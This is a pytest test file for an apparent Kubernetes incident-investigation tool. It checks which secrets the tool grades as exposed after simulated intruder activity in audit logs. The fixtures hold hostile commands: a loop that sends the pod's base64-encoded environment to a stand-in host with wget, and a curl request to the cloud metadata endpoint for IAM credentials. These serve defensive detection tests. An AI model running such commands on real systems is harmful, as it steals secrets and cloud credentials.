"""What commands draw out of pods: an environment that is sent out, and credentials that a cloud is asked for."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from kubewitness.incident.exposure.pod_contents import contents_of
from kubewitness.incident.investigate import Options, investigate
from kubewitness.model.incident import Incident
from kubewitness.rules.loader import RuleSet
from tests.incident.logs import DOOR, Log
from tests.incident.node.test_joined import AFTER, machine, of_the_log
from tests.incident.node.test_nodes import only, recorded
from tests.incident.test_intrusions import open_the_door

SENDS = "/bin/sh -c while true; do wget -q http://203.0.113.35/c?d=$(env | base64); done"
SPEC = {
    "containers": [{"name": "c", "envFrom": [{"secretRef": {"name": "whole"}}],
                    "env": [{"name": "P", "valueFrom": {"secretKeyRef": {"name": "key", "key": "p"}}}]}],
    "volumes": [{"name": "v", "secret": {"secretName": "file"}}, {"name": "w", "cephfs": {"secretRef": {"name": "c"}}}],
}  # fmt: skip


def exposed(incident: Incident) -> dict[str, str]:
    return {one.object.name: one.detail for one in incident.exposures}


def looked_at(folder: Path, rules: RuleSet, *, runs: str = "/app/web", command: str = "id") -> Incident:
    """An intruder sees the spec of pod shop/web-0, runs `command` in it, and `runs` is a process of it."""
    log = Log()
    by: dict[str, Any] = {
        "by": "system:anonymous", "address": "203.0.113.77", "agent": "curl/8.5.0", "reason": DOOR,
    }  # fmt: skip
    log.quiet_day()
    open_the_door(log)
    body = {"kind": "Pod", "metadata": {"name": "web-0", "namespace": "shop"}, "spec": SPEC}
    log.request("get", "pods", namespace="shop", name="web-0", at="13:09", response=body, **by)
    query = "?" + "&".join(f"command={word}" for word in command.split())
    log.request("create", "pods", subresource="exec", namespace="shop", name="web-0", at="13:10", query=query, code=101,
                **by)  # fmt: skip
    log.write(folder / "audit.log")
    machine(folder, AFTER, runs)
    return of_the_log(investigate([str(folder)], rules=rules, options=Options()))


def test_only_what_is_put_into_variables_is_in_the_environment() -> None:
    assert contents_of({"spec": SPEC}).environment == {"whole", "key"}
    assert contents_of({"spec": {"template": {"spec": SPEC}}}).environment == {"whole", "key"}


@pytest.mark.parametrize("body", [{"envFrom": [{"secretRef": 3}, None, "x"]}, {"envFrom": "x"}, {"secretKeyRef": []}])
def test_no_body_breaks_the_environment(body: object) -> None:
    assert contents_of(body).environment == frozenset()


def test_secrets_of_an_environment_that_is_sent_out_are_likely_read_and_rotated(tmp_path: Path, rules: RuleSet) -> None:
    incident = looked_at(tmp_path, rules, runs=SENDS)
    grades = exposed(incident)
    assert (grades["whole"], grades["key"], grades["file"]) == ("likely_content", "likely_content", "mounted")
    assert {("shop", "whole"), ("shop", "key")} <= {(one.namespace, one.name) for one in incident.secrets}


def test_secrets_of_an_environment_that_stays_are_within_reach(tmp_path: Path, rules: RuleSet) -> None:
    grades = exposed(looked_at(tmp_path, rules))
    assert (grades["whole"], grades["key"], grades["file"]) == ("mounted", "mounted", "mounted")


@pytest.mark.parametrize(
    ("path", "possible"), [("iam/security-credentials/", True), ("placement/availability-zone", False)]
)
def test_only_a_command_that_asks_for_a_role_makes_the_clouds_credentials_possible(
    path: str, possible: bool, tmp_path: Path, rules: RuleSet
) -> None:
    incident = looked_at(tmp_path, rules, command=f"curl http://169.254.169.254/latest/meta-data/{path}")
    told = [one.object.name for one in incident.exposures if one.object.kind == "cloud credentials"]
    assert told == (["node-a"] if possible else [])
    assert all(one.detail == "possible" for one in incident.exposures if one.object.kind == "cloud credentials")


def test_the_recordings_tell_what_went_out_and_what_was_asked_for(rules: RuleSet) -> None:
    assert exposed(only(recorded("malicious_webhook", rules)))["payment-gateway"] == "likely_content"
    asked = only(recorded("kube_system_exec", rules))
    assert [one.object.name for one in asked.exposures if one.object.kind == "cloud credentials"] == ["node1"]
